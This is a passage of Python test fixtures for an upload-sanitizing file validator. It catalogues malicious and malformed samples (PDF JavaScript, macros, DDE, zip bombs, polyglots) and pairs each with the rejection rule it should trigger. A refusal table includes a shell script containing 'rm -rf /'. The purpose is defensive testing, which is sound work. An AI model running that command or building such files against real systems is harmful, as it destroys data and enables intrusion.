    data = out.getvalue()
    return data[: len(data) // 2]


def tiff_pdf_polyglot() -> bytes:
    """A TIFF whose first kilobyte carries a PDF header (PDF readers look that far)."""
    return _tiff_with_prefix_payload(b"%PDF-1.7\n")


def _tiff_with_prefix_payload(payload: bytes) -> bytes:
    from PIL import Image, TiffImagePlugin

    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[270] = payload.decode("latin-1") + "x" * 8  # ImageDescription, written near the start
    out = io.BytesIO()
    Image.new("1", (8, 8), 1).save(out, "TIFF", tiffinfo=info)
    return out.getvalue()


# --------------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Case:
    """A bad sample: its builder, the type it claims, and the rule that must reject it."""

    name: str
    build: Callable[[], bytes]
    kind: str
    rule: str


GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf": ("pdf", pdf_good),
    "pdf_open_action_destination": ("pdf", pdf_open_action_destination),
    "pdf_open_action_goto": ("pdf", pdf_open_action_goto),
    "pdf_web_link": ("pdf", pdf_web_link),
    "pdf_encrypted_owner_only": ("pdf", pdf_encrypted_owner_only),
    "pdf_bad_xref_repairable": ("pdf", pdf_bad_xref_repairable),
    "docx": ("docx", docx_good),
    "docx_1000_entries": ("docx", lambda: docx_with_entries(1000)),
    "odt": ("odt", odt_good),
    "doc": ("doc", doc),
    "rtf": ("rtf", rtf_good),
    "txt": ("txt", txt_good),
    "txt_cp1252": ("txt", txt_cp1252),
    "txt_utf16": ("txt", txt_utf16),
    "jpeg": ("jpeg", jpeg_good),
    "jpeg_with_second_image": ("jpeg", jpeg_with_second_image),
    "png": ("png", png_good),
    "tiff": ("tiff", tiff_good),
    "tiff_200_pages": ("tiff", lambda: tiff_pages(200)),
}

BAD: list[Case] = [
    Case("pdf_javascript_names", pdf_javascript_names, "pdf", "pdf_javascript"),
    Case("pdf_javascript_open_action", pdf_javascript_open_action, "pdf", "pdf_javascript"),
    Case("pdf_javascript_hex_name", pdf_javascript_hex_name, "pdf", "pdf_javascript"),
    Case("pdf_javascript_in_object_stream", pdf_javascript_in_object_stream, "pdf", "pdf_javascript"),
    Case("pdf_launch", pdf_launch, "pdf", "pdf_launch"),
    Case("pdf_goto_remote", pdf_goto_remote, "pdf", "pdf_launch"),
    Case("pdf_embedded_file", pdf_embedded_file, "pdf", "pdf_embedded_file"),
    Case("pdf_file_attachment_annotation", pdf_file_attachment_annotation, "pdf", "pdf_embedded_file"),
    Case("pdf_rich_media", pdf_rich_media, "pdf", "pdf_rich_media"),
    Case("pdf_xfa", pdf_xfa, "pdf", "pdf_xfa"),
    Case("pdf_submit_form", pdf_submit_form, "pdf", "pdf_data_action"),
    Case("pdf_file_link", pdf_file_link, "pdf", "unsafe_link"),
    Case("pdf_open_action_uri", pdf_open_action_uri, "pdf", "pdf_auto_action"),
    Case("pdf_page_open_uri", pdf_page_open_uri, "pdf", "pdf_auto_action"),
    Case("pdf_open_action_goto_then_uri", pdf_open_action_goto_then_uri, "pdf", "pdf_auto_action"),
    Case("pdf_encrypted_user_password", pdf_encrypted_user_password, "pdf", "pdf_encrypted"),
    Case("pdf_truncated", pdf_truncated, "pdf", "pdf_truncated"),
    Case("pdf_trailing_data", pdf_trailing_data, "pdf", "trailing_data"),
    Case("pdf_zip_polyglot", pdf_zip_polyglot, "pdf", "polyglot_zip"),
    Case("pdf_html_polyglot", pdf_html_polyglot, "pdf", "polyglot_html"),
    Case("pdf_no_pages", pdf_no_pages, "pdf", "pdf_no_pages"),
    Case("pdf_garbage", pdf_garbage, "pdf", "pdf_damaged"),
    Case("pdf_corrupt_content_stream", pdf_corrupt_content_stream, "pdf", "pdf_damaged"),
    Case("docx_macros", docx_macros, "docx", "macros"),
    Case("docx_vba_part_only", docx_vba_part_only, "docx", "macros"),
    Case("docx_remote_template", docx_remote_template, "docx", "external_content"),
    Case("docx_remote_image", docx_remote_image, "docx", "external_content"),
    Case("docx_includepicture", docx_includepicture, "docx", "external_content"),
    Case("docx_dde_split", docx_dde_split, "docx", "dde"),
    Case("docx_dde_simple", docx_dde_simple, "docx", "dde"),
    Case("docx_ole_object", docx_ole_object, "docx", "embedded_object"),
    Case("docx_activex", docx_activex, "docx", "activex"),
    Case("docx_unsafe_link", docx_unsafe_link, "docx", "unsafe_link"),
    Case("docx_nested_zip", docx_nested_zip, "docx", "zip_nested"),
    Case("docx_ratio_bomb", docx_ratio_bomb, "docx", "zip_ratio"),
    Case("docx_total_bomb", docx_total_bomb, "docx", "zip_size"),
    Case("docx_1001_entries", lambda: docx_with_entries(1001), "docx", "zip_entries"),
    Case("docx_encrypted_entry", docx_encrypted_entry, "docx", "docx_encrypted"),
    Case("docx_duplicate_names", docx_duplicate_names, "docx", "docx_damaged"),
    Case("docx_entity_bomb", docx_entity_bomb, "docx", "docx_damaged"),
    Case("docx_broken_xml", docx_broken_xml, "docx", "docx_damaged"),
    Case("docx_missing_main", docx_missing_main, "docx", "docx_damaged"),
    Case("docx_trailing_data", docx_trailing_data, "docx", "trailing_data"),
    Case("docx_truncated", docx_truncated, "docx", "docx_damaged"),
    Case("docx_corrupt_entry", docx_corrupt_entry, "docx", "docx_damaged"),
    Case("docx_html_in_first_entry", docx_html_in_first_entry, "docx", "polyglot_html"),
    Case("odt_basic_macros", odt_basic_macros, "odt", "macros"),
    Case("odt_event_listener", odt_event_listener, "odt", "macros"),
    Case("odt_embedded_object", odt_embedded_object, "odt", "embedded_object"),
    Case("odt_remote_image", odt_remote_image, "odt", "external_content"),
    Case("odt_linked_section", odt_linked_section, "odt", "external_content"),
    Case("odt_dde", odt_dde, "odt", "dde"),
    Case("odt_unsafe_link", odt_unsafe_link, "odt", "unsafe_link"),
    Case("odt_encrypted", odt_encrypted, "odt", "odt_encrypted"),
    Case("odt_missing_content", odt_missing_content, "odt", "odt_damaged"),
    Case("odt_wrong_first_entry", odt_wrong_first_entry, "odt", "odt_damaged"),
    Case("docx_wrong_main_type", docx_wrong_main_type, "docx", "docx_damaged"),
    Case("doc_zip_polyglot", lambda: doc() + zip_bytes({"a.js": b"x"}), "doc", "polyglot_zip"),
    Case("txt_control", txt_control, "txt", "text_control"),
    Case("tiff_truncated", tiff_truncated, "tiff", "tiff_damaged"),
    Case("doc_macros", doc_macros, "doc", "macros"),
    Case("doc_embedded_object", doc_embedded_object, "doc", "embedded_object"),
    Case("doc_encrypted", doc_encrypted, "doc", "doc_encrypted"),
    Case("doc_dde", doc_dde, "doc", "dde"),
    Case("doc_dde_utf16", doc_dde_utf16, "doc", "dde"),
    Case("doc_missing_table", doc_missing_table, "doc", "doc_damaged"),
    Case("doc_truncated", doc_truncated, "doc", "doc_damaged"),
    Case("rtf_object", rtf_object, "rtf", "embedded_object"),
    Case("rtf_objdata_only", rtf_objdata_only, "rtf", "embedded_object"),
    Case("rtf_datastore", rtf_datastore, "rtf", "embedded_object"),
    Case("rtf_dde", rtf_dde, "rtf", "dde"),
    Case("rtf_dde_obfuscated", rtf_dde_obfuscated, "rtf", "dde"),
    Case("rtf_template", rtf_template, "rtf", "external_content"),
    Case("rtf_bin", rtf_bin, "rtf", "rtf_binary"),
    Case("rtf_unbalanced", rtf_unbalanced, "rtf", "rtf_damaged"),
    Case("rtf_after_end", rtf_after_end, "rtf", "rtf_damaged"),
    Case("rtf_control_bytes", rtf_control_bytes, "rtf", "rtf_damaged"),
    Case("png_too_many_pixels", lambda: png_header_claims(20000, 20000), "png", "image_too_large"),
    Case("png_truncated", png_truncated, "png", "png_damaged"),
    Case("png_bad_crc", png_bad_crc, "png", "png_damaged"),
    Case("png_trailing", png_trailing, "png", "image_trailing_data"),
    Case("jpeg_truncated", jpeg_truncated, "jpeg", "jpeg_damaged"),
    Case("jpeg_zip_polyglot", jpeg_zip_polyglot, "jpeg", "polyglot_zip"),
    Case("jpeg_trailing", jpeg_trailing, "jpeg", "image_trailing_data"),
    Case("jpeg_html_comment", jpeg_html_comment, "jpeg", "polyglot_html"),
    Case("tiff_pdf_polyglot", tiff_pdf_polyglot, "tiff", "polyglot_pdf"),
    Case("tiff_201_pages", lambda: tiff_pages(201), "tiff", "image_frames"),
]

#: Uploads that `sniff` must refuse (415), with a word its message must contain.
NOT_ALLOWED: dict[str, tuple[Callable[[], bytes], str]] = {
    "exe": (lambda: b"MZ\x90\x00" + bytes(200), "program"),
    "elf": (lambda: b"\x7fELF\x02\x01\x01" + bytes(100), "program"),
    "shell_script": (lambda: b"#!/bin/sh\nrm -rf /\n", "script"),
    "html": (txt_html, "web page"),
    "svg": (txt_svg, "SVG"),
    "gif": (lambda: b"GIF89a" + bytes(50), "GIF"),
    "plain_zip": (lambda: zip_bytes({"a.txt": b"hello"}), "compressed archive"),
    "xlsx": (lambda: zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}), "spreadsheet"),
    "ods": (odt_spreadsheet, "not a text document"),
    "xls": (ole_spreadsheet, "spreadsheet"),
    "encrypted_docx": (ole_encrypted_ooxml, "password-protected"),
    "pdf_zip_polyglot": (pdf_zip_polyglot, "ZIP"),
    "jpeg_zip_polyglot": (jpeg_zip_polyglot, "ZIP"),
    "pdf_after_junk": (lambda: b"junk line\n" + pdf_good(), "PDF"),
    "binary": (lambda: bytes(range(256)) * 4, "not one of the allowed types"),
    "text_with_escape_codes": (txt_control, "control characters"),
}
